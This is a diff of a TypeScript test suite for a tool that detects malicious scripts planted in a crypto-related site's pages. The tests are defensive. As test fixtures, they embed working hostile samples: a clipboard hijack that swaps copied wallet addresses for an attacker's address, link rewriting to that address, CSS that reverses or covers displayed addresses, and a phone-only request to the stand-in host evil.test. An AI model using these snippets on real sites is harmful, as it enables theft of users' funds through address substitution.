@@ -15,6 +15,9 @@ const EVIL = '0x52908400098527886E0F7030069857D2E4169EE7';
 let server: Server;
 let proxy: HttpServer;
 let origin: string;
+/** The visit on which copies are made, links pressed and the addresses looked at. */
+const LATER = { on: ['later visit'] } as const;
+
 /** A script that the proxy plants in every document, as an attacker behind the build could. */
 let planted = '';
 
@@ -41,9 +44,9 @@ afterAll(async () => {
   await server.stop();
 });
 
-async function problems(script: string, who = [desktop]): Promise<string> {
+async function problems(script: string, options: Parameters<typeof renderedPageProblems>[2] = {}): Promise<string> {
   planted = script;
-  const found = await renderedPageProblems(origin, site, who);
+  const found = await renderedPageProblems(origin, site, { who: [desktop], ...options });
   planted = '';
   return found.join('\n');
 }
@@ -72,7 +75,8 @@ test('A script’s changes after load are reported: an address, the title, a lab
 });
 
 test('A script’s interference with a copy or a pressed link is reported', async () => {
-  const found = await problems(`addEventListener('load', () => setTimeout(() => {
+  const found = await problems(
+    `addEventListener('load', () => setTimeout(() => {
     const write = navigator.clipboard.writeText.bind(navigator.clipboard);
     let copies = 0;
     navigator.clipboard.writeText = (text) => write(copies++ ? '${EVIL}' : text);
@@ -84,7 +88,9 @@ test('A script’s interference with a copy or a pressed link is reported', asyn
       const link = target.closest('a[href*="bscscan"]');
       if (link) link.href = 'https://bscscan.com/token/${EVIL}';
     }, true);
-  }, 600))`);
+  }, 600))`,
+    LATER,
+  );
   expect(found).toMatch(/copy button 2 puts \["0x5290/);
   expect(found).not.toMatch(/copy button 1 puts/);
   expect(found).toMatch(/copying address 1 by hand puts /);
@@ -94,7 +100,8 @@ test('A script’s interference with a copy or a pressed link is reported', asyn
 });
 
 test('An address that is reversed or covered is reported, although its text is the configured one', async () => {
-  const found = await problems(`addEventListener('load', () => setTimeout(() => {
+  const found = await problems(
+    `addEventListener('load', () => setTimeout(() => {
     const cards = document.querySelectorAll('code.address');
     if (cards[0]) cards[0].style.direction = 'rtl', cards[0].style.unicodeBidi = 'bidi-override';
     if (cards[1]) {
@@ -103,13 +110,17 @@ test('An address that is reversed or covered is reported, although its text is t
       cards[1].parentElement.style.position = 'relative';
       cards[1].parentElement.append(cover);
     }
-  }, 600))`);
+  }, 600))`,
+    LATER,
+  );
   expect(found).toMatch(/the characters of Demo\S* are not displayed in order/);
   expect(found).toMatch(/something covers 0x1234/);
 });
 
 test('A script that acts only on a phone is caught by the visit with one', async () => {
   const script = `if (/Android/.test(navigator.userAgent)) setTimeout(() => fetch('https://evil.test/').catch(() => 0), 300)`;
-  expect(await problems(script)).toBe('');
-  expect(await problems(script, [phone])).toMatch(/an Android phone, .*: it requests https:\/\/evil\.test\//);
+  expect(await problems(script, { on: ['first visit'] })).toBe('');
+  expect(await problems(script, { who: [phone], on: ['first visit'] })).toMatch(
+    /an Android phone, .*: it requests https:\/\/evil\.test\//,
+  );
 });
